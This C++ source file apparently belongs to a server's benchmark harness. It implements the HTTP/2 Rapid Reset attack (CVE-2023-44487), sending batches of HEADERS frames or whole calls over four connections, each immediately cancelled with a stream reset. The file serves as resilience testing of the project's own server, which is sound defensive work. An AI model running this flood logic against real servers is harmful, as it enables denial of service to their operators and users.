// SPDX-License-Identifier: MIT
// Rapid reset, CVE-2023-44487: streams that end before the server has seen what they
// want, and thus never count as open.
#include "bench/wire/attacker.h"

namespace mnemon::wire {
namespace {

constexpr int kResetters = 4;  // connections
constexpr int kResetsPerTurn = 100;

}  // namespace

void ResetHeaders(const AttackPlan& plan, AttackTally& tally) {
  const std::string block = CallBlock(kGenerate);
  RunByTurns(plan, tally, kResetters, {}, [&](Attacker& attacker) {
    std::string batch;
    for (int i = 0; i < kResetsPerTurn; ++i) {
      const uint32_t stream = attacker.NextStream();
      batch += Frame(FrameType::kHeaders, kEndHeaders, stream, block) + Reset(stream);
    }
    attacker.Send(batch, 2 * kResetsPerTurn);
    if (!attacker.StreamsLeft()) attacker.Leave();
  });
}

void ResetCalls(const AttackPlan& plan, AttackTally& tally) {
  RunByTurns(plan, tally, kResetters, {}, [&](Attacker& attacker) {
    std::string batch;
    for (int i = 0; i < kResetsPerTurn; ++i) {
      const uint32_t stream = attacker.NextStream();
      batch += WholeCall(stream, kGenerate, plan.short_call) + Reset(stream);
    }
    attacker.Send(batch, 3 * kResetsPerTurn);
    if (!attacker.StreamsLeft()) attacker.Leave();
  });
}

}  // namespace mnemon::wire
